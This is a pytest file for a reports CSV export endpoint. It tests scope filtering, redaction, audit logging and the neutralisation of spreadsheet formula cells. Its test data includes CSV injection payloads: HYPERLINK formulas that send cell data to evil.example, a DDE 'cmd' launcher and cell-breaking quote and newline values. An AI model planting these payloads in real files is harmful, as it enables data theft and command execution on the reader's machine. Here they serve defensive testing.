"""reports.csv: streamed CSV (RFC 4180, UTF-8) read back with the csv module; within the
caller's scope; coded answers and the redacted text only; formula cells neutralised;
audited."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient

from gateway.operators import audit, exports
from gateway.operators.access import Role
from gateway.operators.reports import Filters, vocabulary
from gateway.runtime import Runtime
from tests.operators.people import Person, cast, make
from tests.operators.reporters import file_report

API = "/api/v1"
URL = f"{API}/exports/reports.csv"
HEADER = ["id", "date", "channel", "flow", "status", "category", "category_label",
          "force", "force_label", "when", "when_label", "cercle", "cercle_label", "commune",
          "commune_label", "redacted_text", "other_answers"]


@pytest.fixture
def people(runtime: Runtime) -> dict[str, Person]:
    base = cast(runtime)
    return {"admin": base[Role.admin], "operator": base[Role.operator],
            "mopti": make(runtime, "mariam", Role.reviewer, "mopti")}


def parse(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


@pytest.mark.nodb
@pytest.mark.parametrize(("cell", "shown"), [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
    ("+33 1", "'+33 1"), ("-2+3", "'-2+3"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"),
    ("Un agent = un témoin", "Un agent = un témoin"), ("", ""), (None, ""), (12, "12"),
])
def test_formula_cells_are_neutralised(cell: str | int | None, shown: str) -> None:
    assert exports.neutralise(cell) == shown


def test_the_export_holds_the_coded_answers_and_the_redacted_text_only(
        client: TestClient, runtime: Runtime, people: dict[str, Person]) -> None:
    mariam = people["mopti"]
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+1", "-2+3",
                "@SUM(A1:A9)", 'Dit: "partez", puis,\nplus rien', "Dialloubé, marché"]
    filed = [file_report(client, runtime, text=f"Original {n} sergent Traoré")
             for n in range(len(payloads))]
    for report, text in zip(filed, payloads, strict=True):
        response = client.put(f"{API}/reports/{report.id}/redaction", headers=mariam.auth,
                              json={"text": text})
        assert response.status_code == 200, response.text
    file_report(client, runtime, cercle="Koro", commune="Koro", text="À Koro")

    response = client.get(URL, headers=mariam.auth)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="reports.csv"'
    assert response.content.endswith(b"\r\n")
    assert b"sergent" not in response.content and b"Koro" not in response.content
    header, *rows = parse(response.content)
    assert header == HEADER
    assert [int(r[0]) for r in rows] == [f.id for f in filed]  # oldest first, Mopti only
    first = client.get(f"{API}/reports/{filed[0].id}", headers=mariam.auth).json()
    assert rows[0][1] == first["created_at"][:10]  # the day, never the time
    assert rows[0][2:] == [
        "ussd", "report", "new", "extortion", "Argent exigé", "gendarmerie", "Gendarmerie",
        "this_week", "Cette semaine", "mopti", "Mopti", "mopti-konna", "Konna",
        "'" + payloads[0], ""]
    assert [r[15] for r in rows] == [
        "'" + payloads[0], "'+1+1", "'-2+3", "'@SUM(A1:A9)", payloads[4], payloads[5]]

    [entry] = audit_entries(runtime, "export.reports")
    assert (entry.actor, json.loads(entry.details)) == ("mariam", {
        "status": None, "cercle": None, "commune": None, "since": None, "until": None})


def audit_entries(runtime: Runtime, action: str) -> list[audit.Entry]:
    with runtime.db.transaction() as conn:
        return audit.entries(conn, action=action).items


def test_the_export_takes_the_queues_filters_and_scope(
        client: TestClient, runtime: Runtime, people: dict[str, Person]) -> None:
    konna = file_report(client, runtime)
    sio = file_report(client, runtime, commune="Sio")
    koro = file_report(client, runtime, cercle="Koro", commune="Koro")
    admin, mariam = people["admin"], people["mopti"]
    client.post(f"{API}/reports/{sio.id}/transitions", headers=admin.auth,
                json={"to": "reviewed"})

    def ids(person: Person, query: str = "") -> list[int]:
        response = client.get(f"{URL}?{query}", headers=person.auth)
        assert response.status_code == 200, response.text
        return [int(r[0]) for r in parse(response.content)[1:]]

    assert ids(admin) == [konna.id, sio.id, koro.id]
    assert ids(mariam, "status=reviewed") == [sio.id]
    assert ids(mariam, "commune=mopti-konna") == [konna.id]
    assert ids(mariam, "cercle=koro") == []  # another region: nothing, not an error
    assert client.get(URL, headers=people["operator"].auth).status_code == 403
    assert client.get(f"{URL}?since=hier", headers=mariam.auth).status_code == 422
    details = [json.loads(e.details) for e in audit_entries(runtime, "export.reports")]
    assert [(d["status"], d["cercle"], d["commune"]) for d in details] == [  # newest first
        (None, "koro", None), (None, None, "mopti-konna"), ("reviewed", None, None),
        (None, None, None)]


def test_the_export_is_read_in_batches(client: TestClient, runtime: Runtime,
                                       people: dict[str, Person]) -> None:
    filed = [file_report(client, runtime).id for _ in range(5)]
    vocab = vocabulary(runtime.engine.content)
    records = list(exports.report_records(runtime.db, who=people["mopti"].principal,
                                          vocab=vocab, chosen=Filters(), batch=2))
    assert [r[0] for r in records] == filed
    body = b"".join(exports.reports_csv(runtime.db, who=people["mopti"].principal,
                                        vocab=vocab, chosen=Filters()))
    assert len(parse(body)) == 6


# What a resident could type to take over a reviewer's spreadsheet, and what a reviewer
# could paste into a redaction. (payload, typed on a phone: else pasted by the reviewer)
INJECTIONS = [
    ("=1+1", True),
    ('=HYPERLINK("http://evil.example/?"&A1,"Voir")', True),
    ("=cmd|' /C calc'!A0", True),  # DDE
    ("+1+1", True),
    ("-1+1", True),
    ("@SUM(1+1)", True),
    ("\t=1+1", False),
    ("\r=1+1", False),
    ("a,=1+1", True),  # a comma: one cell still
    ('a","=1+1', True),  # a quote to close the cell early
    ("a\r\n=1+1", False),  # a line break to start a row
    ("a\n@SUM(1+1)", False),
    (" =1+1", True),  # kept without its margin, so neutralised like "=1+1"
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_injections_through_the_export_open_as_text(
        client: TestClient, runtime: Runtime, people: dict[str, Person]) -> None:
    """Each payload typed into a report on the phone (or pasted by a reviewer) and copied
    verbatim into its redaction, the worst a reviewer can do: the export has one row per
    report, every row as wide as the header, and no cell a spreadsheet would run."""
    mariam = people["mopti"]
    filed = []
    for payload, typed in INJECTIONS:
        report = file_report(client, runtime, text=payload if typed else "Au barrage")
        opened = client.get(f"{API}/reports/{report.id}", headers=mariam.auth).json()
        assert opened["text"] == (payload.strip() if typed else "Au barrage")
        redaction = opened["text"] if typed else payload
        response = client.put(f"{API}/reports/{report.id}/redaction", headers=mariam.auth,
                              json={"text": redaction})
        assert response.status_code == 200, response.text
        filed.append(report.id)

    response = client.get(URL, headers=mariam.auth)
    assert response.status_code == 200
    header, *rows = parse(response.content)
    assert [int(r[0]) for r in rows] == filed
    assert {len(r) for r in rows} == {len(header)}
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), (row[0], cell)
    stored = [p.strip() for p, _ in INJECTIONS]  # text is kept without its margins
    shown = [r[header.index("redacted_text")] for r in rows]
    assert shown == [("'" + s if s.startswith(FORMULA) else s) for s in stored]
